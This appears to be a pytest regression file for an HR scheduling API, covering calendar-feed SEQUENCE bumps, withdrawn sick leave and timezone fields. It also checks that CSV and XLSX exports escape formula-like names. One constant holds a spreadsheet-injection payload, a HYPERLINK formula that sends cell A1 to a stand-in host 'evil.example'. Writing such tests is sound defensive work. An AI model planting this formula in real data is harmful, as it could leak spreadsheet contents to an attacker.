"""Audit 4: an agent on a phone, and HR at month end.

* The calendar feed: approving half-day leave moves the event's end from 17:30 to 13:00 and
  cancelling it moves it back, with no new roster version; the event kept its SEQUENCE, so a
  calendar that already held it (same UID, same SEQUENCE) kept the old times.
* A withdrawn (or cancelled, rejected) sick leave of 2+ days still said ``certificate: missing``
  with a due date, and stayed in the manager's ``certificate_missing=true`` list.
* ``/me/attendance`` gave UTC instants and no zone to show them in.
* A name or staff number typed as ``=HYPERLINK(...)`` became a live formula in HR's XLSX export
  (and in the roster's), and a formula Excel runs in the CSVs.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import icalendar
import openpyxl

from scheduler.shifts.clock import local_today
from tests.api.conftest import World
from tests.api.requests_setup import (
    SM,
    Client,
    decide,
    file_leave,
    grid,
    monday,
    publish_team_roster,
)

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


async def _event(client: Client, path: str, day: dt.date) -> Any:
    feed = icalendar.Calendar.from_ical((await client.get(path)).content)
    [event] = [e for e in feed.walk("VEVENT") if e.decoded("dtstart").isoformat()[:10] == str(day)]
    return event


async def test_half_day_leave_approved_then_cancelled_bumps_the_event_sequence(
    client: Client, world: World, sessionmaker: SM
) -> None:
    roster_id = await publish_team_roster(client, world, sessionmaker)
    agent = world.employees["agent"].id
    _, cells = await grid(sessionmaker, roster_id)
    soon = local_today("Asia/Shanghai") + dt.timedelta(days=2)
    day = min(d for (e, d), code in cells.items() if e == agent and code == "early" and d >= soon)
    link = await client.post(f"/employees/{agent}/calendar-token", headers=world.headers("agent"))
    path = link.json()["url"].split("8000", 1)[1]

    before = await _event(client, path, day)
    assert before.decoded("dtend").strftime("%H:%M") == "17:30"

    r = await file_leave(
        client, world, "agent", type="annual", start_date=day, end_date=day, half="pm"
    )
    assert r.status_code == 201, r.text
    leave_id = r.json()["id"]
    assert (await decide(client, world, "manager", r.json()["approval_id"])).status_code == 200
    approved = await _event(client, path, day)
    assert approved["UID"] == before["UID"]
    assert approved.decoded("dtend").strftime("%H:%M") == "13:00"
    assert approved["SEQUENCE"] > before["SEQUENCE"]  # the same SEQUENCE: the old copy stays

    r = await client.post(
        f"/leave-requests/{leave_id}/cancel",
        json={"reason": "the dentist moved"},
        headers=world.headers("agent"),
    )
    assert r.status_code == 200, r.text
    cancelled = await _event(client, path, day)
    assert cancelled["UID"] == before["UID"]
    assert cancelled.decoded("dtend").strftime("%H:%M") == "17:30"
    assert cancelled["SEQUENCE"] > approved["SEQUENCE"]

    # The roster's own exports keep a formula-like name as text too.
    r = await client.patch(
        f"/employees/{agent}", json={"name": FORMULA_NAME}, headers=world.headers("manager")
    )
    assert r.status_code == 200, r.text
    for fmt in ("csv", "xlsx"):
        r = await client.get(
            f"/rosters/{roster_id}/versions/1/export",
            params={"format": fmt},
            headers=world.headers("manager"),
        )
        assert r.status_code == 200, r.text
        if fmt == "csv":
            rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
            assert [row[1] for row in rows if FORMULA_NAME in row[1]] == ["'" + FORMULA_NAME]
        else:
            book = openpyxl.load_workbook(io.BytesIO(r.content))
            found = [
                cell
                for sheet in book.worksheets
                for row in sheet.iter_rows()
                for cell in row
                if cell.value == FORMULA_NAME
            ]
            assert found, "the name is in the sheet"
            assert all(cell.data_type == "s" for cell in found)  # text, not a formula


async def test_withdrawn_sick_leave_owes_no_certificate(client: Client, world: World) -> None:
    start = monday(2)
    r = await file_leave(
        client,
        world,
        "agent",
        type="sick",
        start_date=start,
        end_date=start + dt.timedelta(days=1),
        reason="flu",
    )
    assert r.status_code == 201, r.text
    filed = r.json()
    assert (filed["certificate"], filed["certificate_missing"]) == ("missing", True)

    r = await decide(client, world, "agent", filed["approval_id"], "withdraw", comment="better")
    assert r.status_code == 200, r.text
    r = await client.get(f"/leave-requests/{filed['id']}", headers=world.headers("agent"))
    assert r.status_code == 200, r.text
    mine = r.json()
    assert mine["status"] == "withdrawn"
    assert (mine["certificate"], mine["certificate_missing"]) == (None, False)

    r = await client.get(
        "/leave-requests", params={"certificate_missing": "true"}, headers=world.headers("manager")
    )
    assert r.status_code == 200, r.text
    assert filed["id"] not in [x["id"] for x in r.json()["items"]]


async def test_attendance_export_keeps_formula_like_names_as_text(
    client: Client, world: World
) -> None:
    month = local_today("Asia/Shanghai").replace(day=1)
    r = await client.post(
        "/employees",
        json={
            "staff_no": "=1+2",
            "name": FORMULA_NAME,
            "hire_date": month.isoformat(),
            "department_id": world.cs_id,
            "team_id": world.team_a,
        },
        headers=world.headers("manager"),
    )
    assert r.status_code == 201, r.text
    params: dict[str, str | int] = {"department_id": world.cs_id, "month": f"{month:%Y-%m}"}

    r = await client.get(
        "/attendance/export", params={**params, "format": "xlsx"}, headers=world.headers("hr")
    )
    assert r.status_code == 200, r.text
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    for sheet in book.worksheets:
        rows = [row for row in sheet.iter_rows(min_row=2) if row[1].value == FORMULA_NAME]
        assert rows, sheet.title
        for row in rows:
            assert (row[0].value, row[0].data_type) == ("=1+2", "s")
            assert row[1].data_type == "s"

    for sheet_name in ("summary", "detail"):
        r = await client.get(
            "/attendance/export",
            params={**params, "format": "csv", "sheet": sheet_name},
            headers=world.headers("hr"),
        )
        assert r.status_code == 200, r.text
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
        mine = [row for row in rows if row[1].endswith(FORMULA_NAME)]
        assert mine, sheet_name
        assert all(row[:2] == ["'=1+2", "'" + FORMULA_NAME] for row in mine)


async def test_my_attendance_names_the_zone_its_times_are_read_in(
    client: Client, world: World
) -> None:
    """The days' instants are UTC; a phone needs the department's zone to show 15:00-24:00."""
    month = f"{local_today('Asia/Shanghai'):%Y-%m}"
    r = await client.get("/me/attendance", params={"month": month}, headers=world.headers("agent"))
    assert r.status_code == 200, r.text
    assert r.json()["timezone"] == "Asia/Shanghai"
    agent = world.employees["agent"].id
    r = await client.get(
        f"/attendance/employees/{agent}", params={"month": month}, headers=world.headers("hr")
    )
    assert r.status_code == 200, r.text
    assert r.json()["timezone"] == "Asia/Shanghai"
